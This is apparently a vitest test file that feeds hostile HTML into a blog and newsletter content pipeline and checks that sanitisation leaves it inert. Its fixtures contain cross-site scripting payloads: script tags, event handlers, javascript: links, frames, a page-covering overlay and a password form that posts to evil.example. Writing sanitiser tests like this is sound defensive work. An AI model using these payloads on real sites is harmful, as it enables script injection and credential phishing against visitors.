import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CdaEntry } from '../cda/types';
import { assetLink, entry, imageAsset } from '../fixtures/cda';
import { type CdaServer, startCdaServer } from '../fixtures/cda-server';
import { type Content, createContent } from '../loading/content';
import { createContentfulSource } from '../sources/contentful';
import { createEmbeddedSource } from '../sources/embedded';

// A blog body and a newsletter edition written by an attacker (or a careless paste): scripts,
// event handlers, javascript: links, frames and CSS that covers the page. Whichever source
// they come from, what reaches a page must be inert.
const HOSTILE = [
  '<script>alert("script")</script>',
  '<img src="https://example.com/x.png" onerror="alert(\'onerror\')" alt="x">',
  '<a href="javascript:alert(\'href\')">Claim your prize</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">Encoded</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(javascript:alert(1))">Cover</div>',
  '<svg onload="alert(\'svg\')"><circle r="1"/></svg>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<p style="color:red">Kept text</p>',
].join('\n');

const HOSTILE_EMAIL = `<!DOCTYPE html><html><head><style>body{position:fixed;inset:0}</style><script src="https://evil.example/x.js"></script></head><body onload="alert('body')">${HOSTILE}</body></html>`;

const ENTRIES: CdaEntry[] = [
  entry('blog', 'blog-hostile', {
    title: 'A hostile post',
    blurb: 'Tries everything.',
    mainImage: assetLink('img'),
    headerBannerImaage: assetLink('img'),
    author: 'Mallory',
    date: '2025-03-05',
    content2: HOSTILE,
    order: 1,
  }),
  entry('newsletter', 'newsletter-hostile', {
    newsletterName: 'A hostile edition',
    blurb: 'Tries everything.',
    image: assetLink('img'),
    date: '2025-03-05',
    content: [HOSTILE_EMAIL],
    order: 1,
  }),
];
const ASSETS = [imageAsset('img')];

function expectInert(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<object|<embed|<svg|<form|<input|<style/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript\s*:/i);
  expect(html).not.toMatch(/javascript&colon;/i);
  expect(html).not.toMatch(/position\s*:\s*fixed|inset\s*:|z-index|url\(/i);
  expect(html).toContain('Kept text');
  expect(html).toContain('Claim your prize');
}

async function expectInertContent(content: Content) {
  const post = await content.blogPost('a-hostile-post');
  expect(post?.title).toBe('A hostile post');
  expectInert(post?.html ?? '');
  const edition = await content.newsletter(0);
  expect(edition?.name).toBe('A hostile edition');
  expectInert(edition?.html ?? '');
  // The email keeps its allowed inline styling; the page-covering rules are gone.
  expect(edition?.html).toContain('style="color:red"');
}

describe('hostile content from the embedded source', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'hostile-content-'));
    await mkdir(path.join(dir, 'entries'));
    await writeFile(path.join(dir, 'assets.json'), JSON.stringify(ASSETS));
    for (const type of ['blog', 'newsletter']) {
      const items = ENTRIES.filter((item) => item.sys.contentType?.sys.id === type);
      await writeFile(path.join(dir, 'entries', `${type}.json`), JSON.stringify(items));
    }
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('is sanitised before any page sees it', async () => {
    await expectInertContent(createContent(createEmbeddedSource(dir)));
  });
});

describe('hostile content from the Contentful source', () => {
  let server: CdaServer;
  beforeAll(async () => {
    server = await startCdaServer({
      space: 'hostile',
      token: 'token',
      entries: ENTRIES,
      assets: ASSETS,
    });
  });
  afterAll(() => server.close());

  it('is sanitised before any page sees it', async () => {
    const source = createContentfulSource({
      space: 'hostile',
      accessToken: 'token',
      host: server.host,
      insecure: true,
    });
    await expectInertContent(createContent(source));
  });
});
